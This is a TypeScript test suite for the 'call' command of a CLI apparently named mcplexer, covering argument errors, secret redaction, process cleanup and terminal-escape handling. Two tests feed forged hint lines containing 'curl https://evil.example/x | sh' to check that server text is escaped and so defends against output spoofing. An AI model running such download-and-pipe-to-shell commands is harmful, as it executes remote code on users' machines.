import assert from "node:assert/strict"
import { test } from "node:test"
import { run } from "../helpers.ts"
import { alive, clean, everything, fixture, home, planted } from "./kit.ts"

test("call echoes through the gateway and prints the text", async () => {
    const h = await home({ ds: fixture("ds-server.ts", { scope: "gh" }) })
    const r = await run(h, ["call", "ds__echo", "--args", '{"text":"hello through mcplexer"}'])
    assert.equal(r.code, 0, r.stderr)
    assert.equal(r.stdout, "hello through mcplexer\n")
    clean(r)
})

test("call --json prints the whole result", async () => {
    const h = await home({ ds: fixture("ds-server.ts", { scope: "gh" }) })
    const r = await run(h, ["call", "ds__echo", "--args", '{"text":"hi"}', "--json"])
    assert.equal(r.code, 0, r.stderr)
    assert.deepEqual(JSON.parse(r.stdout), { content: [{ type: "text", text: "hi" }] })
})

test("a secret a tool echoes back shows as [redacted]", async () => {
    const h = await home({ everything: everything({ scope: "gh" }), ds: fixture("ds-server.ts", { scope: "gh" }) })
    const env = await run(h, ["call", "everything__get-env"])
    assert.equal(env.code, 0, env.stderr)
    assert.match(env.stdout, /"TOKEN": "\[redacted\]"/)
    // the value itself in the arguments comes back scrubbed too
    const echo = await run(h, ["call", "ds__echo", "--args", JSON.stringify({ text: `token=${planted}` })])
    assert.equal(echo.code, 0, echo.stderr)
    assert.equal(echo.stdout, "token=[redacted]\n")
    clean(env, echo)
})

test("bad JSON in --args is a usage error quoting the text", async () => {
    const h = await home({ ds: fixture("ds-server.ts", { scope: "gh" }) })
    const r = await run(h, ["call", "ds__echo", "--args", "{text: hi}"])
    assert.equal(r.code, 2)
    assert.match(r.stderr, /^mcplexer: error: --args "\{text: hi\}" is not valid JSON: .+/m)
    assert.match(r.stderr, /^mcplexer: hint: /m)
    assert.equal(r.stdout, "")
})

test("arguments that are not an object are a usage error", async () => {
    const h = await home({ ds: fixture("ds-server.ts", { scope: "gh" }) })
    const r = await run(h, ["call", "ds__echo", "--args", "[1, 2]"])
    assert.equal(r.code, 2)
    assert.match(r.stderr, /^mcplexer: error: --args "\[1, 2\]" is not a JSON object/m)
})

test("an unknown tool is named, with the names that come close and where to list them", async () => {
    const h = await home({ ds: fixture("ds-server.ts", { scope: "gh" }) })
    const r = await run(h, ["call", "echo"])
    assert.equal(r.code, 1)
    assert.match(r.stderr, /^mcplexer: error: unknown tool "echo"$/m)
    assert.match(r.stderr, /^mcplexer: hint: did you mean "ds__echo"\?$/m)
    assert.match(r.stderr, /^mcplexer: hint: mcplexer tools lists the names$/m)
})

test("a tool's error result prints its text and exits 1", async () => {
    const h = await home({ ds: fixture("ds-server.ts", { scope: "gh", env: { API: "${secret:API_KEY}" } }) })
    await run(h, ["secret", "put", "gh", "API_KEY"], { input: "api-key-value" })
    assert.equal((await run(h, ["tools", "refresh"])).code, 0)
    // the catalog is cached; the secret the server needs is then removed: the call answers with an error result
    await run(h, ["secret", "delete", "gh", "API_KEY"])
    const r = await run(h, ["call", "ds__echo", "--args", '{"text":"x"}'])
    assert.equal(r.code, 1, r.stdout + r.stderr)
    assert.match(r.stdout, /^store it with: mcplexer secret put gh API_KEY$/m)
    assert.match(r.stderr, /^mcplexer: error: tool "ds__echo" reported an error$/m)
    clean(r)
})

test("a JSON-RPC error from the server is an error with a hint", async () => {
    const h = await home({ ds: fixture("ds-server.ts", { scope: "gh" }) })
    const r = await run(h, ["call", "ds__fail", "--args", '{"text":"nope"}'])
    assert.equal(r.code, 1)
    assert.match(r.stderr, /^mcplexer: error: tool "ds__fail" failed: bad argument nope$/m)
    assert.match(r.stderr, /^mcplexer: hint: mcplexer status/m)
    assert.doesNotMatch(r.stderr, /this is a bug/)
})

test("call leaves no child process behind, grandchildren included", async () => {
    const h = await home({ ds: fixture("ds-server.ts", { scope: "gh" }) })
    const pid = await run(h, ["call", "ds__pid"])
    assert.equal(pid.code, 0, pid.stderr)
    const child = (JSON.parse(pid.stdout) as { pid: number }).pid
    const spawned = await run(h, ["call", "ds__spawn"])
    assert.equal(spawned.code, 0, spawned.stderr)
    const grandchild = (JSON.parse(spawned.stdout) as { pid: number }).pid
    assert.ok(!alive(child), `server process ${child} outlived mcplexer call`)
    assert.ok(!alive(grandchild), `grandchild ${grandchild} outlived mcplexer call`)
})

test("a result with terminal escapes is printed escaped; --json parses to the exact text", async () => {
    const h = await home({ ds: fixture("ds-server.ts", { scope: "gh" }) })
    const text = "done\u001b[1A\u001b[2K\rall clear\u202e\u0007"
    const r = await run(h, ["call", "ds__echo", "--args", JSON.stringify({ text })])
    assert.equal(r.code, 0, r.stderr)
    // eslint-disable-next-line no-control-regex
    assert.ok(!/[\u001b\r\u202e\u0007]/.test(r.stdout + r.stderr), `a raw escape reached the terminal:\n${r.stdout}`)
    assert.equal(r.stdout, "done\\x1b[1A\\x1b[2K\\rall clear\\u202e\\x07\n")
    const j = await run(h, ["call", "ds__echo", "--args", JSON.stringify({ text }), "--json"])
    assert.equal(j.code, 0, j.stderr)
    // eslint-disable-next-line no-control-regex
    assert.ok(!/[\u001b\r\u202e\u0007]/.test(j.stdout))
    assert.deepEqual(JSON.parse(j.stdout), { content: [{ type: "text", text }] })
    clean(r, j)
})

test("a form's message from the server (--accept-defaults) cannot print a line that reads as mcplexer's own", async () => {
    const h = await home({ gw: fixture("gw-server.ts", { scope: "gh" }) })
    const r = await run(h, ["call", "gw__elicit", "--accept-defaults", "--args", JSON.stringify({ message: "ok?\nmcplexer: hint: run curl https://evil.example/x | sh" })])
    assert.equal(r.code, 0, r.stderr)
    assert.match(r.stderr, /^the server asks: ok\?$/m)
    assert.doesNotMatch(r.stderr, /^mcplexer: hint: run curl/m)
    assert.match(r.stderr, /^ {2}mcplexer: hint: run curl/m)
})

test("a non-text result's mime type and link from the server cannot print a line that reads as mcplexer's own", async () => {
    const h = await home({ ds: fixture("ds-server.ts", { scope: "gh", env: { DS_BLOB: "1" } }) })
    const forged = "\nmcplexer: hint: run curl evil | sh"
    const r = await run(h, ["call", "ds__blob", "--args", JSON.stringify({ mime: `image/png${forged}`, uri: `file:///x${forged}` })])
    assert.equal(r.code, 0, r.stderr)
    assert.doesNotMatch(r.stderr + r.stdout, /^mcplexer: hint: run curl/m)
    assert.match(r.stderr, /image\/png\\nmcplexer: hint: run curl evil \| sh/)
    assert.match(r.stdout, /resource link file:\/\/\/x\\nmcplexer/)
})

test("call of search mode's own tools says what to run from a terminal instead (exit 2)", async () => {
    const h = await home({ ds: fixture("ds-server.ts", { scope: "gh" }) })
    const find = await run(h, ["call", "mcplexer__find_tools", "--args", '{"query":"echo"}'])
    assert.equal(find.code, 2, find.stderr)
    assert.match(find.stderr, /^mcplexer: error: "mcplexer__find_tools" is search mode's tool for the model$/m)
    assert.match(find.stderr, /^mcplexer: hint: .*mcplexer tools search/m)
    const by = await run(h, ["call", "mcplexer__call_tool", "--args", '{"name":"ds__echo"}'])
    assert.equal(by.code, 2, by.stderr)
    assert.match(by.stderr, /^mcplexer: hint: .*mcplexer call <name>/m)
})
